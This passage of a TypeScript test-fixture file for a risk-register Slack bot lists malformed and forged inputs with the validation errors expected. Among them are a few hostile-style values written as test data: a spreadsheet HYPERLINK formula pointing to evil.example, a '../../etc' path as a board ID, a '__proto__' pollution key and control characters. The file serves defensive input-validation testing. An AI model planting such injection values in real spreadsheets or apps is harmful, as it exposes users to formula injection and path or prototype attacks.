    target: 'risk',
    values: { ...RISK_BASE, owner: ' ' },
    outcome: { refused: 'needs an owner', block: 'owner' },
  },
  {
    name: 'impact banana (a forged select)',
    target: 'risk',
    values: { ...RISK_BASE, impact: 'banana' },
    outcome: { refused: 'not "banana"', block: 'impact' },
  },
  {
    name: 'impact in Arabic-Indic digits',
    target: 'risk',
    values: { ...RISK_BASE, impact: '٣' },
    outcome: { refused: 'not "٣"', block: 'impact' },
  },
  {
    name: 'impact missing',
    target: 'risk',
    values: { ...RISK_BASE, impact: '' },
    outcome: { refused: 'needs its impact', block: 'impact' },
  },
  {
    name: 'probability 4 on a 3x3 scale',
    target: 'risk',
    values: { ...RISK_BASE, probability: '4' },
    outcome: { refused: 'from 1 to 3', block: 'probability' },
  },
  {
    name: 'target date 31/02/2027',
    target: 'risk',
    values: { ...RISK_BASE, targetDate: '31/02/2027' },
    outcome: { refused: 'not a valid date', block: 'targetDate' },
  },
  {
    name: 'a formula as the target date',
    target: 'action',
    values: { ...ACTION_BASE, targetDate: '=TODAY()+7' },
    outcome: { refused: 'is not a date', block: 'targetDate' },
  },
  {
    name: "a 100 KB description (past Slack's 3,000-character form limit: forged)",
    target: 'action',
    values: { ...ACTION_BASE, title: HUNDRED_KB },
    outcome: { refused: 'keep the description under 10000 characters', block: 'title' },
  },
  {
    name: 'a 100 KB note (forged)',
    target: 'action',
    values: { ...ACTION_BASE, note: HUNDRED_KB },
    outcome: { refused: 'keep the note under 10000 characters', block: 'note' },
  },
  {
    name: 'a 300-character owner',
    target: 'risk',
    values: { ...RISK_BASE, owner: 'Dir '.repeat(75) },
    outcome: { refused: 'under 200 characters', block: 'owner' },
  },
  {
    name: 'a stranger',
    target: 'risk',
    who: 'stranger',
    values: RISK_BASE,
    outcome: { refused: 'Only people in the register' },
  },
];

export const KNOWN_NEW_ITEM_FORM_ISSUES: Known<NewItemFormCase>[] = [
  {
    fixed: true,
    finding:
      'A description of zero-width spaces counts as given (String.trim keeps U+200B), so an item with an invisible description is added.',
    fixIn: 'src/domain/new-item.ts planNewItem: treat text of only zero-width/format characters as blank',
    case: {
      name: 'a description of zero-width spaces',
      target: 'risk',
      values: { ...RISK_BASE, title: '\u200b\u200b' },
      outcome: { refused: 'needs a description', block: 'title' },
    },
  },
  {
    fixed: true,
    finding: 'A forged select value "0x2" is read as impact 2 and the risk added (Number() reads hex).',
    fixIn: 'src/domain/rating.ts readLevel',
    case: {
      name: 'impact 0x2 (a forged select)',
      target: 'risk',
      values: { ...RISK_BASE, impact: '0x2' },
      outcome: { refused: 'not "0x2"', block: 'impact' },
    },
  },
];

// ---------------------------------------------------------------------------------------------------------------------
// Register rows, as a store hands them to the core.
// ---------------------------------------------------------------------------------------------------------------------

export const RISK_HEADERS = [
  'Risk ID',
  'Risk owner',
  'Description of risk',
  'Impact (I)',
  'Probability (P)',
  'Rating (I x P)',
  'Risk rating',
  'Target resolution date',
  'Date raised',
  'Date last updated',
  'Status',
];
export const ACTION_HEADERS = [
  'Action ID',
  'Action',
  'Lead',
  'Timescale',
  'Target date',
  'Times slipped',
  'Status',
  'Progress %',
  'Latest note',
];
/** A risk row that reads cleanly: R-1, rated 2 x 2. */
export const GOOD_RISK: CellValue[] = [
  'R-1',
  'Lead Commissioner',
  'Workforce gaps',
  2,
  2,
  4,
  'Medium',
  '31/03/2027',
  '01/09/2026',
  '01/11/2026',
  'Open',
];
export const GOOD_ACTION: CellValue[] = [
  'A-1',
  'Roll out IAPT',
  'Lead Commissioner',
  '2026/27',
  null,
  0,
  'In progress',
  40,
  'on track',
];

/** One risk row with a column replaced (by header), for table cases. */
export function riskRow(id: string, changes: Record<string, CellValue> = {}): CellValue[] {
  const row = [...GOOD_RISK];
  row[0] = id;
  for (const [header, value] of Object.entries(changes)) row[RISK_HEADERS.indexOf(header)] = value;
  return row;
}

export function actionRow(id: string, changes: Record<string, CellValue> = {}): CellValue[] {
  const row = [...GOOD_ACTION];
  row[0] = id;
  for (const [header, value] of Object.entries(changes)) row[ACTION_HEADERS.indexOf(header)] = value;
  return row;
}

/** A bad cell in an otherwise good row, and the problem it must raise (or none), with the row's other fields still read. */
export interface CellCase {
  name: string;
  tab: 'Risks' | 'Actions';
  column: string;
  value: CellValue;
  /** The problem's code and severity, or null when the value is fine (or only means "no date"). */
  problem: { code: ProblemCode; severity: 'error' | 'warning'; message: string } | null;
}

const HUGE_TEXT = `Z${'z'.repeat(100 * KB)}`;

export const CELL_CASES: CellCase[] = [
  // Wrong types in Impact / Probability.
  {
    name: 'text in Impact',
    tab: 'Risks',
    column: 'Impact (I)',
    value: 'banana',
    problem: { code: 'level_invalid', severity: 'error', message: 'not "banana"' },
  },
  {
    name: 'a boolean in Impact',
    tab: 'Risks',
    column: 'Impact (I)',
    value: true,
    problem: { code: 'level_invalid', severity: 'error', message: 'not "true"' },
  },
  {
    name: 'a huge number in Impact',
    tab: 'Risks',
    column: 'Impact (I)',
    value: 1e308,
    problem: { code: 'level_invalid', severity: 'error', message: 'whole number from 1 to 3' },
  },
  {
    name: 'Infinity in Probability',
    tab: 'Risks',
    column: 'Probability (P)',
    value: Number.POSITIVE_INFINITY,
    problem: { code: 'level_invalid', severity: 'error', message: 'not "Infinity"' },
  },
  {
    name: 'NaN as a number in Probability',
    tab: 'Risks',
    column: 'Probability (P)',
    value: Number.NaN,
    problem: { code: 'level_invalid', severity: 'error', message: 'not "NaN"' },
  },
  {
    name: '"NaN" as text in Impact',
    tab: 'Risks',
    column: 'Impact (I)',
    value: 'NaN',
    problem: { code: 'level_invalid', severity: 'error', message: 'not "NaN"' },
  },
  {
    name: '"#N/A" in Impact',
    tab: 'Risks',
    column: 'Impact (I)',
    value: '#N/A',
    problem: { code: 'level_invalid', severity: 'error', message: 'not "#N/A"' },
  },
  {
    name: 'a formula error in Probability',
    tab: 'Risks',
    column: 'Probability (P)',
    value: '#REF!',
    problem: { code: 'level_invalid', severity: 'error', message: 'not "#REF!"' },
  },
  {
    name: 'a formula as text in Impact',
    tab: 'Risks',
    column: 'Impact (I)',
    value: '=2*1',
    problem: { code: 'level_invalid', severity: 'error', message: 'not "=2*1"' },
  },
  {
    name: 'a fraction in Impact',
    tab: 'Risks',
    column: 'Impact (I)',
    value: 2.5,
    problem: { code: 'level_invalid', severity: 'error', message: 'not 2.5' },
  },
  {
    name: 'negative zero in Impact',
    tab: 'Risks',
    column: 'Impact (I)',
    value: -0,
    problem: { code: 'level_invalid', severity: 'error', message: 'not 0' },
  },
  {
    name: 'a full-width digit in Impact',
    tab: 'Risks',
    column: 'Impact (I)',
    value: '２',
    problem: { code: 'level_invalid', severity: 'error', message: 'not "２"' },
  },
  {
    name: 'a 100 KB Impact',
    tab: 'Risks',
    column: 'Impact (I)',
    value: HUGE_TEXT,
    problem: { code: 'level_invalid', severity: 'error', message: 'impact must be a number from 1 to 3' },
  },

  // Dates as text, booleans, nonsense.
  {
    name: '31/02/2027 as a target',
    tab: 'Risks',
    column: 'Target resolution date',
    value: '31/02/2027',
    problem: { code: 'date_invalid', severity: 'error', message: 'February 2027 has 28 days' },
  },
  {
    name: 'a five-digit year',
    tab: 'Risks',
    column: 'Target resolution date',
    value: '31st Dec 20261',
    problem: { code: 'date_invalid', severity: 'error', message: 'five digits' },
  },
  { name: 'TBC as a target', tab: 'Risks', column: 'Target resolution date', value: 'TBC', problem: null },
  {
    name: 'a boolean as a target',
    tab: 'Risks',
    column: 'Target resolution date',
    value: false,
    problem: { code: 'date_invalid', severity: 'error', message: 'tick box' },
  },
  {
    name: 'a formula as a target',
    tab: 'Risks',
    column: 'Target resolution date',
    value: '=TODAY()+14',
    problem: {
      code: 'date_invalid',
      severity: 'error',
      message: '"=TODAY()+14" is not a date: it looks like a spreadsheet formula',
    },
  },
  {
    name: '=DATE(2027,3,31) as text in a timescale (not 31 Dec 2027)',
    tab: 'Actions',
    column: 'Timescale',
    value: '=DATE(2027,3,31)',
    problem: { code: 'date_invalid', severity: 'error', message: 'looks like a spreadsheet formula' },
  },
  { name: 'a 100 KB target', tab: 'Risks', column: 'Target resolution date', value: HUGE_TEXT, problem: null },
  {
    name: '100 KB of digits as a target',
    tab: 'Risks',
    column: 'Target resolution date',
    value: '1'.repeat(100 * KB),
    problem: { code: 'date_invalid', severity: 'error', message: 'is not a valid date' },
  },
  {
    name: 'a date raised in the future',
    tab: 'Risks',
    column: 'Date raised',
    value: '01/01/2099',
    problem: { code: 'date_in_future', severity: 'error', message: 'is after today' },
  },
  {
    name: 'a date raised of 30/02',
    tab: 'Risks',
    column: 'Date raised',
    value: '30/02/2026',
    problem: { code: 'date_invalid', severity: 'error', message: 'February 2026 has 28 days' },
  },
  {
    name: 'a negative serial as Date last updated',
    tab: 'Risks',
    column: 'Date last updated',
    value: -5,
    problem: { code: 'date_invalid', severity: 'error', message: 'a number here must be a date serial' },
  },
  {
    name: 'a serial a billion days on',
    tab: 'Risks',
    column: 'Date last updated',
    value: 1e9,
    problem: { code: 'date_invalid', severity: 'error', message: 'a number here must be a date serial' },
  },

  // Status, rating, band.
  {
    name: 'a number as Status',
    tab: 'Risks',
    column: 'Status',
    value: 42,
    problem: {
      code: 'value_unknown',
      severity: 'warning',
      message: '"42" is not a status the bot knows, so it is read as open; to say what it means, add "42": "open"',
    },
  },
  {
    name: 'a boolean as Status',
    tab: 'Risks',
    column: 'Status',
    value: true,
    problem: { code: 'value_unknown', severity: 'warning', message: '"true" is not a status the bot knows' },
  },
  {
    name: "text as the sheet's Rating",
    tab: 'Risks',
    column: 'Rating (I x P)',
    value: 'four',
    problem: { code: 'rating_mismatch', severity: 'warning', message: 'the sheet says four' },
  },
  {
    name: 'a misspelt band',
    tab: 'Risks',
    column: 'Risk rating',
    value: 'Meduim',
    problem: { code: 'band_mismatch', severity: 'warning', message: '"Meduim"' },
  },
  { name: 'a 100 KB description', tab: 'Risks', column: 'Description of risk', value: HUGE_TEXT, problem: null },
  {
    name: 'a formula as a description',
    tab: 'Risks',
    column: 'Description of risk',
    value: '=HYPERLINK("https://evil.example","x")',
    problem: null,
  },
  {
    name: 'control characters in a description',
    tab: 'Risks',
    column: 'Description of risk',
    value: 'a\u0000b\u001b[31mc\u202ed',
    problem: null,
  },

  // Actions.
  {
    name: 'text as Progress',
    tab: 'Actions',
    column: 'Progress %',
    value: 'lots',
    problem: { code: 'number_invalid', severity: 'warning', message: 'must be a number, not "lots"' },
  },
  {
    name: 'progress 150',
    tab: 'Actions',
    column: 'Progress %',
    value: 150,
    problem: { code: 'number_invalid', severity: 'warning', message: 'progress must be 0 to 100%, not 150' },
  },
  {
    name: 'negative progress',
    tab: 'Actions',
    column: 'Progress %',
    value: -10,
    problem: { code: 'number_invalid', severity: 'warning', message: 'not "-10"' },
  },
  {
    name: 'a boolean as Progress',
    tab: 'Actions',
    column: 'Progress %',
    value: true,
    problem: { code: 'number_invalid', severity: 'warning', message: 'not "true"' },
  },
  {
    name: 'a huge number as Progress',
    tab: 'Actions',
    column: 'Progress %',
    value: 1e308,
    problem: { code: 'number_invalid', severity: 'warning', message: 'progress must be 0 to 100%' },
  },
  {
    name: 'text as Times slipped',
    tab: 'Actions',
    column: 'Times slipped',
    value: 'three',
    problem: { code: 'number_invalid', severity: 'warning', message: 'not "three"' },
  },
  {
    name: 'an unknown status',
    tab: 'Actions',
    column: 'Status',
    value: 'Half done',
    problem: {
      code: 'value_unknown',
      severity: 'warning',
      message:
        '"Half done" is not a status the bot knows, so it is read as open; to say what it means, add "Half done": "open" (or "open-not-chased" or "closed") under tabs.actions.statuses in settings',
    },
  },
  {
    name: '31/02 as a timescale',
    tab: 'Actions',
    column: 'Timescale',
    value: '31/02/2027',
    problem: { code: 'date_invalid', severity: 'error', message: 'February 2027 has 28 days' },
  },
  { name: 'text as a Target date', tab: 'Actions', column: 'Target date', value: 'next Tuesday-ish', problem: null },
  {
    name: 'a 100 KB timescale of repeated dates',
    tab: 'Actions',
    column: 'Timescale',
    value: 'Dec 26 '.repeat(15 * KB),
    problem: null,
  },
  { name: 'a 100 KB latest note', tab: 'Actions', column: 'Latest note', value: HUGE_TEXT, problem: null },
];

export const KNOWN_CELL_ISSUES: Known<CellCase>[] = [
  {
    fixed: true,
    finding:
      'A hex or exponent number in Impact/Probability ("0x2", "1e0") is read as a level without a word; text that is not a plain number should be reported.',
    fixIn: 'src/domain/rating.ts readLevel',
    case: {
      name: '"0x2" in Impact',
      tab: 'Risks',
      column: 'Impact (I)',
      value: '0x2',
      problem: { code: 'level_invalid', severity: 'error', message: 'not "0x2"' },
    },
  },
];

// ---------------------------------------------------------------------------------------------------------------------
// Settings files (merged over config/default.json).
// ---------------------------------------------------------------------------------------------------------------------

export interface SettingsCase {
  name: string;
  /** The file's text, or a value written as JSON. */
  content: string | unknown;
  /** Lines the SettingsError must hold, each naming the setting's path. */
  problems: string[];
  /** At most this many problems (so one mistake is not reported many times over). */
  atMost?: number;
}

const band = (label: string, from: number, colour = '#00B050') => ({ label, from, colour, reviewDays: 30 });

export const SETTINGS_CASES: SettingsCase[] = [
  { name: 'an empty file', content: '', problems: ['not valid JSON'] },
  { name: 'JavaScript, not JSON', content: '{ scale: 3x3 }', problems: ['not valid JSON'] },
  { name: 'a trailing comma', content: '{"scale": "3x3",}', problems: ['not valid JSON'] },
  { name: 'comments', content: '// the JCB board\n{"scale": "3x3"}', problems: ['not valid JSON'] },
  { name: 'a NUL inside a string', content: '{"timeZone": "Europe/London\u0000"}', problems: ['not valid JSON'] },
  {
    name: '100,000 nested arrays',
    content: `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
    problems: ['(top level): the file must hold one JSON object of settings ({ ... }), not a list'],
  },
  {
    name: 'an array',
    content: [1, 2],
    problems: ['(top level): the file must hold one JSON object of settings ({ ... }), not a list'],
  },
  {
    name: 'a string',
    content: '"3x3"',
    problems: ['(top level): the file must hold one JSON object of settings ({ ... }), not string'],
  },
  {
    name: 'wrong types',
    content: {
      timeZone: 42,
      reminders: { offsetsDays: '14,7,1', overdueEveryDays: '7', dueSoonDays: null, nudgeTime: 900 },
      digest: { topRisks: 'five' },
    },
    problems: [
      'timeZone: must be text in quotes, not 42',
      'reminders.offsetsDays: must be a list ([ … ]), not "14,7,1"',
      'reminders.overdueEveryDays: must be a number, not "7"',
      'reminders.dueSoonDays: must be a number, not null',
      'reminders.nudgeTime: must be text in quotes, not 900',
      'digest.topRisks: must be a number, not "five"',
    ],
  },
  {
    name: '"NaN" as a number',
    content: { reminders: { overdueEveryDays: 'NaN' } },
    problems: ['reminders.overdueEveryDays: must be a number, not "NaN"'],
  },
  {
    name: 'huge numbers',
    content: { reminders: { overdueEveryDays: 1e308 }, digest: { topRisks: 1e308 } },
    problems: ['reminders.overdueEveryDays: must be at most 90', 'digest.topRisks: must be at most 50'],
  },
  {
    name: 'unknown keys at every level',
    content: { colour: 'red', reminders: { offsetDays: [1] }, boards: [{ id: 'b', name: 'B', slackChannel: 'C1' }] },
    problems: [
      '(top level): unknown setting(s) "colour"',
      'reminders: unknown setting(s) "offsetDays"',
      'boards[0]: unknown setting(s) "slackChannel"',
    ],
  },
  {
    name: '__proto__ as a key',
    content: '{"__proto__": {"polluted": true}, "scale": "3x3"}',
    problems: ['unknown setting(s) "polluted"'],
  },
  {
    name: 'a 5x5 scale with overlapping bands',
    content: {
      scale: { preset: '5x5-nhs', bands: [band('Low', 1), band('Moderate', 4), band('High', 4), band('Extreme', 3)] },
    },
    problems: [
      'scale.bands[2].from: bands must go up; 4 is not above 4 (Moderate)',
      'scale.bands[3].from: bands must go up; 3 is not above 4 (High)',
    ],
  },
  {
    name: 'a 5x5 band above the top rating',
    content: { scale: { preset: '5x5-nhs', bands: [band('Low', 1), band('Extreme', 26)] } },
    problems: ['scale.bands[1].from: 26 is above the highest rating 25'],
  },
  {
    name: 'a 5x5 scale not starting at 1',
    content: { scale: { preset: '5x5-nhs', bands: [band('Low', 2), band('High', 8)] } },
    problems: ['scale.bands[0].from: the lowest band must start at 1'],
  },
  {
    name: 'a custom 5x5 with two labels for five levels',
    content: {
      scale: {
        name: 'mine',
        impact: { max: 5, labels: ['a', 'b'] },
        probability: { max: 5 },
        bands: [band('Low', 1), band('High', 10)],
      },
    },
    problems: ['scale.impact.labels: 2 labels for 5 levels'],
  },
  {
    name: 'a 1000 x 1000 scale',
    content: {
      scale: {
        name: 'big',
        impact: { max: 1000 },
        probability: { max: 1000 },
        bands: [band('Low', 1), band('High', 10)],
      },
    },
    problems: ['scale.impact.max: must be at most 10, not 1000', 'scale.probability.max: must be at most 10'],
  },
  {
    name: 'review days 0 and 9999',
    content: {
      scale: {
        preset: '3x3',
        bands: [
          { ...band('Low', 1), reviewDays: 0 },
          { ...band('High', 5), reviewDays: 9999 },
        ],
      },
    },
    problems: ['scale.bands[0].reviewDays', 'scale.bands[1].reviewDays'],
  },
  {
    name: 'a colour name',
    content: { scale: { preset: '3x3', bands: [band('Low', 1, 'green'), band('High', 5)] } },
    problems: ['scale.bands[0].colour: a colour like "#F44336"'],
  },
  {
    name: 'a cron in words',
    content: { digest: { schedule: 'every monday' } },
    problems: ['digest.schedule: "every monday" is not a cron schedule'],
  },
  {
    name: 'a six-field cron',
    content: { digest: { schedule: '0 0 9 * * 1' } },
    problems: ['digest.schedule: "0 0 9 * * 1" is not a cron schedule'],
  },
  {
    name: 'minute 99',
    content: { digest: { schedule: '99 9 * * 1' } },
    problems: ['digest.schedule: "99 9 * * 1" is not a cron schedule'],
  },
  {
    name: "a board's three-field cron",
    content: { boards: [{ id: 'jcb', name: 'JCB', digestSchedule: '* * *' }] },
    problems: ['boards[0].digestSchedule: "* * *" is not a cron schedule'],
  },
  {
    name: 'a misspelt time zone',
    content: { timeZone: 'Europe/Londres' },
    problems: ['timeZone: "Europe/Londres" is not an IANA time zone'],
  },
  {
    name: 'a Cyrillic o in the time zone',
    content: { timeZone: 'Europe/L\u043endon' },
    problems: ['timeZone: "Europe/L\u043endon" is not an IANA time zone'],
  },
  {
    name: 'a GMT offset as a zone',
    content: { timeZone: 'GMT+1' },
    problems: ['timeZone: "GMT+1" is not an IANA time zone'],
  },
  {
    name: 'negative offsets and intervals',
    content: { reminders: { offsetsDays: [-1, -7], overdueEveryDays: -7, dueSoonDays: -14 } },
    problems: [
      'reminders.offsetsDays[0]',
      'reminders.offsetsDays[1]',
      'reminders.overdueEveryDays',
      'reminders.dueSoonDays',
    ],
  },
  {
    name: 'a fraction of a day',
    content: { reminders: { offsetsDays: [1.5] } },
    problems: ['reminders.offsetsDays[0]'],
  },
  {
    name: 'nudge time 24:00',
    content: { reminders: { nudgeTime: '24:00' } },
    problems: ['reminders.nudgeTime: a time as HH:MM (24-hour)'],
  },
  {
    name: 'an impossible holiday',
    content: { workingDays: { extraHolidays: ['tomorrow'] } },
    problems: ['workingDays.extraHolidays[0]: a date as YYYY-MM-DD'],
  },
  { name: 'no boards', content: { boards: [] }, problems: ['boards: must list at least 1'] },
  {
    name: 'two boards with one ID',
    content: {
      boards: [
        { id: 'a', name: 'A' },
        { id: 'a', name: 'B' },
      ],
    },
    problems: ['boards[1].id: "a" is used by another board'],
  },
  {
    name: 'a path as a board ID',
    content: { boards: [{ id: '../../etc', name: 'x' }] },
    problems: ['boards[0].id: lower-case letters, digits and hyphens'],
  },
  {
    name: 'a 200-character tab title',
    content: { tabs: { risks: { title: 'R'.repeat(200) } } },
    problems: ['tabs.risks.title'],
  },
  {
    name: 'no synonyms for the ID column',
    content: { tabs: { risks: { headers: { id: [] } } } },
    problems: ['tabs.risks.headers.id'],
  },
  {
    name: 'a mention as the user group',
    content: { programmeOffice: { userGroup: '<!subteam^S123>' } },
    problems: ['programmeOffice.userGroup: a Slack user group ID'],
  },
  {
    name: 'Sheets limits out of range',
    content: {
      googleSheets: { readCacheSeconds: -1, requestTimeoutSeconds: 0, maxAttempts: 0, readsPerMinute: 100_000 },
    },
    problems: [
      'googleSheets.readCacheSeconds',
      'googleSheets.requestTimeoutSeconds',
      'googleSheets.maxAttempts',
      'googleSheets.readsPerMinute',
    ],
  },
];

export const KNOWN_SETTINGS_ISSUES: Known<SettingsCase>[] = [
  {
    fixed: true,
    finding:
      'A settings file holding `null` crashes with "TypeError: Cannot read properties of null (reading \'scale\')" instead of a SettingsError; `risk-bot check --config` prints a stack trace and exits 1, not 2.',
    fixIn:
      'src/config/settings.ts resolveSettings (reads raw.scale when raw is null; guard it as `shape` is), or src/config/load-settings.ts',
    case: {
      name: 'null',
      content: 'null',
      problems: ['(top level): the file must hold one JSON object of settings ({ ... }), not null'],
    },
  },
  {
    fixed: true,
    finding:
      'A file saved with a UTF-8 byte order mark (Windows Notepad) is refused as "not valid JSON: Unexpected token \'\ufeff\'": the character is invisible, so the message does not say what to fix.',
    fixIn:
      'src/config/load-settings.ts readJson: strip a leading U+FEFF (or say "the file starts with a byte order mark")',
    case: { name: 'a byte order mark', content: '\ufeff{"scale": "5x5-nhs"}', problems: [] },
  },
  {
    fixed: true,
    finding: '`"scale": true` gets only "scale: Invalid input", without what is allowed.',
    fixIn: 'src/config/settings-schema.ts scaleSettingSchema (an error message naming the presets and the object form)',
    case: { name: 'a boolean scale', content: { scale: true }, problems: ['scale: ', '3x3, 5x5-nhs'] },
  },
  {
    fixed: true,
    finding:
      '100,000 bad offsets give 100,000 problem lines (7 MB on stderr from risk-bot); one mistake repeated should be summarised.',
    fixIn: 'src/config/settings.ts resolveSettings (cap the list, e.g. the first 20 and "and N more")',
    case: {
      name: '100,000 negative offsets',
      content: { reminders: { offsetsDays: Array.from({ length: 100_000 }, () => -1) } },
      problems: ['reminders.offsetsDays[0]'],
      atMost: 50,
    },
  },
  {
    fixed: true,
    finding:
      'When any setting has the wrong type, the cron schedules, header fields and board IDs are not checked, so a second run finds more problems (resolveSettings says it lists every problem in one run).',
    fixIn:
      'src/config/settings.ts resolveSettings: run checkSchedule on whatever strings are there before throwing the schema issues',
    case: {
      name: 'a negative offset and a cron in words',
      content: { reminders: { offsetsDays: [-1] }, digest: { schedule: 'every monday' } },
      problems: ['reminders.offsetsDays[0]', 'digest.schedule: "every monday" is not a cron schedule'],
    },
  },
  {
    fixed: true,
    finding: 'Impossible holiday dates ("2026-02-30") pass: the check is only the YYYY-MM-DD shape.',
    fixIn: 'src/config/settings-schema.ts isoDate (check the calendar date)',
    case: {
      name: 'an impossible holiday date',
      content: { workingDays: { extraHolidays: ['2026-02-30'] } },
      problems: ['workingDays.extraHolidays[0]'],
    },
  },
  {
    fixed: true,
    finding:
      'Two bands with the same label ("High" from 1 and "High" from 5) are accepted; the digest and heat map cannot tell them apart.',
    fixIn: 'src/config/settings.ts checkBands',
    case: {
      name: 'two bands called High',
      content: { scale: { preset: '3x3', bands: [band('High', 1), band('High', 5)] } },
      problems: ['scale.bands[1].label'],
    },
  },
];

// ---------------------------------------------------------------------------------------------------------------------
// Forged form payloads: signed with the app's secret, but not what Slack sends.
// ---------------------------------------------------------------------------------------------------------------------

export interface ForgedView {
  name: string;
  view: Record<string, unknown>;
  /** The block the form's errors must name, when the bot answers on the form. */
  errorOn?: string;
}

const text = (value: unknown) => ({ value: { type: 'plain_text_input', value } });

export const FORGED_VIEWS: ForgedView[] = [
  {
    name: 'an update form with no values at all',
    view: { callback_id: 'update_item', private_metadata: '{"target":"risk"}', state: { values: {} } },
    errorOn: 'id',
  },
  {
    name: 'an update form whose inputs are null',
    view: {
      callback_id: 'update_item',
      private_metadata: '{"target":"risk"}',
      state: { values: { id: text(null), changes: text(null), note: text(null) } },
    },
    errorOn: 'id',
  },
  {
    name: 'a new item form with no values at all',
    view: { callback_id: 'new_item', private_metadata: '{"target":"risk"}', state: { values: {} } },
    errorOn: 'title',
  },
  {
    name: 'a new item form whose inputs are null',
    view: {
      callback_id: 'new_item',
      private_metadata: '{"target":"action"}',
      state: { values: { title: text(null), owner: text(null) } },
    },
    errorOn: 'title',
  },
];

export const KNOWN_FORGED_VIEWS: Known<ForgedView>[] = [
  {
    fixed: true,
    finding:
      'A form whose private_metadata is not JSON, or names another target, throws before ack: no answer for 3 s, then HTTP 404 (Slack shows the user a connection error) and only Bolt\'s "not acknowledged" in the log.',
    fixIn:
      'src/adapters/slack/listeners/views/update-submitted.ts and new-item-submitted.ts: parse the metadata with safeParse and ack with an error',
    case: {
      name: 'private_metadata that is not JSON',
      view: {
        callback_id: 'update_item',
        private_metadata: 'not json',
        state: { values: { id: text('R-1'), changes: text('impact 2') } },
      },
    },
  },
  {
    fixed: true,
    finding:
      'A form input holding a number or an object instead of text throws ("value.trim is not a function") before ack: 3 s, then HTTP 404.',
    fixIn:
      'src/adapters/slack/listeners/views/new-item-submitted.ts read() and update-submitted.ts inputValue(): take only strings',
    case: {
      name: "a number as the new item's title",
      view: {
        callback_id: 'new_item',
        private_metadata: '{"target":"action"}',
        state: { values: { title: text(42), owner: text('L.kavanagh') } },
      },
      errorOn: 'title',
    },
  },
];
